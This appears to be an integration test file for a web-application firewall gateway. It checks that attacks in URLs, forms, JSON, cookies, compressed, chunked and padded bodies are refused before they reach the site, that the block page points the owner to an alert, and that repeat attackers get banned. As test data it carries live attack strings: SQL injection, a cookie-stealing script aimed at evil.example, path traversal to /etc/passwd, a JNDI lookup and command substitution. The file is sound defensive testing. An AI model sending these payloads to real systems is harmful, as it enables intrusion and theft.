// Attacks inside requests meet the whole of `parapet up --upstream`: the site is not asked, the visitor is told why, and
// the owner finds it under the record that the visitor was shown.

import { once } from 'node:events';
import http from 'node:http';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { residentMb, until } from './programs.ts';
import { isBuilt, SKIPPED, startStackBefore, type Stack } from './stack.ts';
import { TRUSTS_LOOPBACK, visit, type Page, type VisitOptions } from './visitors.ts';

const SQL = "1' UNION SELECT name, pass FROM users_field_data-- -";
const SCRIPT = '<script>new Image().src="//evil.example/?"+document.cookie</script>';
const FORM = { 'Content-Type': 'application/x-www-form-urlencoded' };
const TRAVERSAL = '../../../../../../etc/passwd';

let stack: Stack;
const reached: { target: string; bytes: number }[] = [];

function startSite(): http.Server {
  return http.createServer((req, res) => {
    let bytes = 0;
    req.on('data', (chunk: Buffer) => (bytes += chunk.length));
    req.on('end', () => {
      reached.push({ target: `${req.method} ${req.url}`, bytes });
      if (req.url?.includes('missing') === true) res.statusCode = 404;
      res.end(`site got ${bytes}`);
    });
  });
}

let visitors = 0;
/** From an address that has done nothing yet. */
const ask = (path: string, options: VisitOptions = {}): Promise<Page> =>
  visit(stack, path, { from: `198.18.${++visitors >> 8}.${visitors & 255}`, ...options });
const post = (path: string, body: string, headers: Readonly<Record<string, string>> = FORM): Promise<Page> =>
  ask(path, { method: 'POST', body, headers });

/** Sends a body piece by piece. */
async function stream(
  pieces: Iterable<Buffer>,
  headers: Readonly<Record<string, string>>,
): Promise<{ status: number; sentAll: boolean }> {
  const req = http.request({
    ...{ port: stack.port, host: '127.0.0.1', path: '/upload', method: 'POST', agent: false },
    headers: { 'X-Forwarded-For': `198.18.${++visitors >> 8}.${visitors & 255}`, ...headers },
  });
  const answered = new Promise<number>((resolve) => {
    req.on('response', (res) => {
      res.resume();
      resolve(res.statusCode ?? 0);
    });
    req.on('error', () => resolve(0));
  });
  let status: number | undefined;
  void answered.then((it) => (status = it));
  let sentAll = true;
  for (const piece of pieces) {
    if (status !== undefined) {
      sentAll = false;
      break;
    }
    if (!req.write(piece)) await Promise.race([once(req, 'drain'), answered]);
  }
  req.end();
  return { status: await answered, sentAll };
}

describe.skipIf(!isBuilt)(`inspection at the gateway${isBuilt ? '' : SKIPPED}`, { timeout: 60_000 }, () => {
  beforeAll(async () => {
    stack = await startStackBefore(startSite(), { config: TRUSTS_LOOPBACK });
  }, 60_000);
  afterAll(() => stack.stop(), 60_000);

  it('refuses an attack in the address, in a form, in parts, in JSON, in a cookie, and the site is not asked', async () => {
    reached.length = 0;
    const part = `--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n${SQL}\r\n--b--\r\n`;
    const pages = [
      await ask(`/search?q=${encodeURIComponent(SQL)}`),
      await post('/contact', new URLSearchParams({ a: 'x', q: SQL }).toString()),
      await post('/contact', part, { 'Content-Type': 'multipart/form-data; boundary=b' }),
      await post('/api', JSON.stringify({ a: [{ q: TRAVERSAL }] }), { 'Content-Type': 'application/json' }),
      await ask('/', { headers: { Cookie: `a=1; b=${encodeURIComponent(TRAVERSAL)}` } }),
      await ask(`/download?f=${encodeURIComponent(TRAVERSAL)}`),
      await ask('/', { headers: { 'X-Api-Version': '${jndi:ldap://192.0.2.1/a}' } }),
    ];
    expect(pages.map(({ status }) => [400, 403].includes(status))).toEqual(pages.map(() => true));
    expect(reached).toEqual([]);
  });

  it('sees through altered forms: encoded twice, packed, in chunks, behind padding', async () => {
    reached.length = 0;
    const twice = encodeURIComponent(encodeURIComponent(SQL));
    expect((await ask(`/search?q=${twice}`)).status).toBe(403);
    const form = Buffer.from(`q=${encodeURIComponent(SCRIPT)}`);
    const packed = await stream([gzipSync(form)], { ...FORM, 'Content-Encoding': 'gzip' });
    expect(packed.status).toBe(403);
    const chunks = await stream([form.subarray(0, 9), form.subarray(9, 20), form.subarray(20)], FORM);
    expect(chunks.status).toBe(403);
    const padded = Buffer.concat([Buffer.from(`a=${'x'.repeat(100_000)}&`), form]);
    expect((await stream([padded], FORM)).status).toBe(403);
    expect(reached).toEqual([]);
  });

  it('lets pass what looks like it: searches, prose, rich text of an editor, passwords', async () => {
    const pages = [
      await ask(`/search?q=${encodeURIComponent("rock 'n' roll; union of select artists -- live")}`),
      await post(
        '/contact',
        new URLSearchParams({ message: 'Please select one from the list, or drop me a line' }).toString(),
      ),
      await post(
        '/node/1/edit',
        new URLSearchParams({
          form_id: 'node_page_edit_form',
          'body[0][value]':
            '<h2>News</h2><p style="color:red">See <a href="/node/2">here</a> &amp; <img src="/a.png" alt=""></p>',
        }).toString(),
      ),
      await post(
        '/user/login',
        new URLSearchParams({ name: 'anna', pass: "a'--<b>;", form_id: 'user_login_form' }).toString(),
      ),
    ];
    expect(pages.map(({ status }) => status)).toEqual([200, 200, 200, 200]);
  });

  it('shows a page that says why, whose record leads the owner to the alert', async () => {
    const { body, headers } = await ask(`/search?q=${encodeURIComponent(SQL)}`, { from: '198.19.0.1' });
    expect(headers['cache-control']).toMatch(/no-store/);
    expect(body).toContain('what looks like commands for a database');
    const record = /class="record">([0-9a-f]{8})</.exec(body)?.[1] ?? '';
    expect(record).toHaveLength(8);
    let shown = '';
    await until(
      async () => {
        const { text, code } = await stack.run('alerts', 'show', record);
        shown = text;
        return code === 0;
      },
      () => shown,
    );
    expect(shown).toContain('parapet/request-attack');
    expect(shown).toMatch(/query q: looks like commands for a database, "[^\n]*UNION SELECT[^\n]*refused\)/i);
  });

  it('bans who sends one after the other', async () => {
    const from = '198.19.0.2';
    for (const q of [
      SQL,
      "' or sleep(9)-- -",
      SCRIPT,
      TRAVERSAL,
      "'; drop table users-- -",
      '$(cat /etc/passwd)',
    ])
      await ask(`/?q=${encodeURIComponent(q)}`, { from });
    await until(
      async () => (await ask('/', { from })).status === 403,
      () => 'not banned',
    );
    expect((await ask('/', { from })).body).toContain('an attack on the site');
  });

  it('streams a large upload through flat memory, and finds what comes at its end', async () => {
    const [worker] = stack.workerPids();
    const before = residentMb(worker!);
    const headers = { 'Content-Type': 'multipart/form-data; boundary=b' };
    const head = '--b\r\nContent-Disposition: form-data; name="f"; filename="a.bin"\r\n\r\n';
    const piece = Buffer.alloc(262_144, 0x41);
    const upload = function* (end: string): Generator<Buffer> {
      yield Buffer.from(head);
      for (let i = 0; i < 256; i++) yield piece;
      yield Buffer.from(`\r\n${end}--b--\r\n`);
    };
    reached.length = 0;
    expect((await stream(upload(''), headers)).status).toBe(200);
    expect(reached[0]!.bytes).toBeGreaterThan(256 * piece.length);
    expect(residentMb(worker!) - before).toBeLessThan(100);
    const evil = `--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n${SQL}\r\n`;
    expect((await stream(upload(evil), headers)).status).not.toBe(200);
    const padding = Array.from({ length: 20 }, (_, i) =>
      Buffer.from(`${i === 0 ? 'a=' : ''}${'x'.repeat(30_000)}`),
    );
    const behind = await stream([...padding, Buffer.from(`&q=${encodeURIComponent(SQL)}`)], FORM);
    expect(behind.status).not.toBe(200);
    expect(reached).toHaveLength(1);
  });

  it('lets people log in at a site that is another system, and takes it for a probe where it is not', async () => {
    // Workers learn it each for itself: what one has not heard of, it lets through too.
    for (let i = 0; i < 50; i++)
      expect(await ask('/wp-login.php', { from: '198.18.44.1' })).toMatchObject({ status: 200 });
    const asked: number[] = [];
    for (let i = 0; i < 40; i++)
      asked.push((await ask('/administrator/index.php?missing', { from: '198.18.44.2' })).status);
    expect(asked[0]).toBe(404);
    expect(asked.at(-1)).toBe(403);
  });
});
